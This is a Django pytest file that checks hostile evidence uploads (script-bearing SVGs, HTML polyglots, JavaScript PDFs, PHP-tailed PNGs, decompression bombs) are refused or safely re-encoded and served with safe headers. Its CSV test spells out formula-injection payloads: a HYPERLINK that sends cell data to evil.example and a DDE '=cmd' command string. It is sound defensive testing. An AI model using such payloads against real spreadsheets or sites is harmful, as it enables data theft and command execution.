"""Hostile uploads: every file of the corpus is refused, or stored in a harmless re-encoded form
and served with safe headers."""

from __future__ import annotations

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from PIL import Image
from pypdf import PdfReader

from core.errors import InvalidInput
from disputes.models import CaseEvent
from disputes.status import Status
from evidence.models import EvidenceFile
from evidence.services import attach_evidence
from tests.clients import client_for
from tests.evidence import files
from tests.factories import in_status

pytestmark = pytest.mark.django_db

ACTIVE = "Files with web pages, scripts or embedded files are not accepted."
UNREADABLE = "The file cannot be read."
NOT_ACCEPTED = "This type of file is not accepted."


@pytest.fixture
def dispute(seller_a):
    return in_status(Status.IN_REVIEW, seller=seller_a)


def attach(dispute, user, name: str, content: bytes) -> EvidenceFile:
    upload = SimpleUploadedFile(name, content, content_type="application/octet-stream")
    return attach_evidence(dispute=dispute, uploaded_by=user, upload=upload, kind="photo")


def kept(evidence: EvidenceFile) -> bytes:
    with evidence.file.open("rb") as handle:
        return handle.read()


# Each file is built when its test runs (the bomb takes a second or two to compress).
REFUSED = {
    "svg-with-script.svg": (files.svg_with_script(), ACTIVE),
    "svg-with-script.jpg": (files.svg_with_script(), ACTIVE),
    "html-with-a-comma.jpg": (files.html_page_with_a_comma(), ACTIVE),
    "page.csv": (b"<!DOCTYPE html>\n<p>a,b</p>\n" + files.SCRIPT, ACTIVE),
    "open-action-javascript.pdf": (
        files.pdf(catalog={"/OpenAction": files.javascript_action()}),
        ACTIVE,
    ),
    "page-open-javascript.pdf": (
        files.pdf(page={"/AA": files.javascript_action()}),
        ACTIVE,
    ),
    "embedded-exe.pdf": (files.pdf(catalog={"/Names": files.embedded_files()}), ACTIVE),
    "php-after-png-signature.png": (files.php_after_a_png_signature(), NOT_ACCEPTED),
    "truncated.jpg": (files.picture("JPEG")[:300], UNREADABLE),
    "bomb.png": (files.decompression_bomb, "The picture is too large."),
    "password.pdf": (files.pdf(password="secret"), "Password-protected PDFs are not accepted."),
    "huge-field.csv": (b"a,b\n" + b"x" * 140_000 + b",1\n", UNREADABLE),
    "utf16.csv": ("a,b\n1,2\n".encode("utf-16"), None),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_hostile_file_is_refused_with_a_reason_and_nothing_is_kept(
    name, dispute, seller_a_user, settings, tmp_path
):
    settings.MEDIA_ROOT = str(tmp_path)
    build, reason = REFUSED[name]
    content = build() if callable(build) else build
    with pytest.raises(InvalidInput) as refused:
        attach(dispute, seller_a_user, name, content)
    assert set(refused.value.fields) == {"file"}
    if reason:
        assert refused.value.fields["file"] == [reason]
    assert name in refused.value.message  # the seller is told which file
    assert not EvidenceFile.objects.exists()
    assert not CaseEvent.objects.filter(dispute=dispute).exists()
    assert not any(path.is_file() for path in tmp_path.rglob("*"))


def test_a_picture_with_a_page_after_it_is_kept_as_the_picture_alone(dispute, seller_a_user):
    evidence = attach(dispute, seller_a_user, "holiday.jpg", files.jpeg_html_polyglot())
    content = kept(evidence)
    assert evidence.content_type == "image/jpeg"
    assert b"<script" not in content and b"<html" not in content
    assert Image.open(io.BytesIO(content)).size == (32, 32)


def test_a_pdf_with_a_page_in_its_comments_is_rewritten_without_it(dispute, seller_a_user):
    evidence = attach(dispute, seller_a_user, "invoice.pdf", files.pdf_html_polyglot())
    content = kept(evidence)
    assert evidence.content_type == "application/pdf"
    assert content.startswith(b"%PDF-")
    assert b"<script" not in content and b"<html" not in content
    assert len(PdfReader(io.BytesIO(content)).pages) == 1


def test_a_png_named_php_with_code_after_it_is_kept_as_a_png(dispute, seller_a_user):
    evidence = attach(dispute, seller_a_user, "shell.php", files.png_with_php_after_its_end())
    content = kept(evidence)
    assert evidence.content_type == "image/png"
    assert b"<?php" not in content
    assert evidence.file.name.endswith(".png") and ".php" not in evidence.file.name
    assert evidence.original_name == "shell.php"
    assert evidence.download_name == "shell.png"


def test_spreadsheet_formulas_in_an_uploaded_csv_are_kept_as_text(dispute, seller_a_user):
    evidence = attach(dispute, seller_a_user, "counts.csv", files.csv_with_formulas())
    lines = kept(evidence).decode().splitlines()
    assert lines == [
        "order_id,sku,note",
        '111-1,"\'=HYPERLINK(""http://evil.example/?""&A1;""click"")",ok',
        "111-2,MUG-1,'=cmd|' /C calc'!A0",
        "111-3,'@SUM(A1:A2),-3",  # a plain number keeps its sign
    ]


def test_a_photo_loses_its_exif_but_its_date_is_kept_in_the_database(dispute, seller_a_user):
    exif = Image.Exif()
    exif[0x0132] = "2026:10:03 08:15:00"  # DateTime
    exif[0x010F] = "Camera Maker"
    exif[0x8825] = {1: "N", 2: (48.0, 51.0, 24.0)}  # GPS: where the seller lives
    evidence = attach(dispute, seller_a_user, "box.jpg", files.picture("JPEG", exif=exif))
    assert evidence.taken_at.isoformat() == "2026-10-03T08:15:00+00:00"
    assert evidence.perceptual_hash
    assert dict(Image.open(io.BytesIO(kept(evidence))).getexif()) == {}


def test_a_picture_turned_by_exif_is_stored_upright(dispute, seller_a_user):
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to view
    wide = Image.new("RGB", (40, 20), "red")
    buffer = io.BytesIO()
    wide.save(buffer, "JPEG", exif=exif)
    evidence = attach(dispute, seller_a_user, "turned.jpg", buffer.getvalue())
    assert Image.open(io.BytesIO(kept(evidence))).size == (20, 40)


def test_a_picture_just_under_the_pixel_limit_is_kept(dispute, seller_a_user, settings):
    settings.ARBITER = {**settings.ARBITER, "EVIDENCE_MAX_IMAGE_PIXELS": 32 * 32}
    attach(dispute, seller_a_user, "ok.png", files.picture("PNG", size=32))
    with pytest.raises(InvalidInput) as refused:
        attach(dispute, seller_a_user, "big.png", files.picture("PNG", size=33))
    assert "33 × 33 pixels" in refused.value.message


# --- serving what was kept ---------------------------------------------------------------------

KEPT = {
    "holiday.jpg": (files.jpeg_html_polyglot(), "image/jpeg", "holiday.jpg"),
    "shell.php": (files.png_with_php_after_its_end(), "image/png", "shell.png"),
    "photo.webp": (files.picture("WEBP"), "image/webp", "photo.webp"),
    "invoice.pdf": (files.pdf_html_polyglot(), "application/pdf", "invoice.pdf"),
    "counts.txt": (files.csv_with_formulas(), "text/csv", "counts.csv"),
}


@pytest.mark.parametrize("name", KEPT)
@pytest.mark.parametrize("inline", [False, True], ids=["download", "inline"])
def test_every_kept_file_is_served_with_safe_headers(name, inline, dispute, seller_a_user):
    content, content_type, download_name = KEPT[name]
    evidence = attach(dispute, seller_a_user, name, content)
    url = reverse("evidence:file", args=[evidence.pk]) + ("?inline=1" if inline else "")
    browser = Client()
    browser.force_login(seller_a_user)
    response = browser.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"].startswith("sandbox;")
    shown_inline = inline and content_type.startswith("image/")
    disposition = response["Content-Disposition"]
    assert disposition.startswith("inline" if shown_inline else "attachment")
    assert f'filename="{download_name}"' in disposition
    assert b"".join(response.streaming_content) == kept(evidence)


# --- the whole request --------------------------------------------------------------------------


def test_a_request_body_over_the_cap_is_refused_before_it_is_read(dispute, seller_a_user, settings):
    settings.ARBITER = {**settings.ARBITER, "MAX_REQUEST_BYTES": 2048}
    photo = files.picture("JPEG", size=128)
    assert len(photo) > 2048
    body = {"file": SimpleUploadedFile("a.png", photo), "kind": "photo"}
    url = f"/api/v1/disputes/{dispute.reference}/evidence/"
    response = client_for(seller_a_user).post(url, body, format="multipart")
    assert response.status_code == 413
    assert response.json()["error"]["code"] == "request_too_large"
    browser = Client()
    browser.force_login(seller_a_user)
    page = browser.post(reverse("portal:file", args=["lost_inbound"]), {"x": "y" * 4096})
    assert page.status_code == 413
    assert not EvidenceFile.objects.exists()
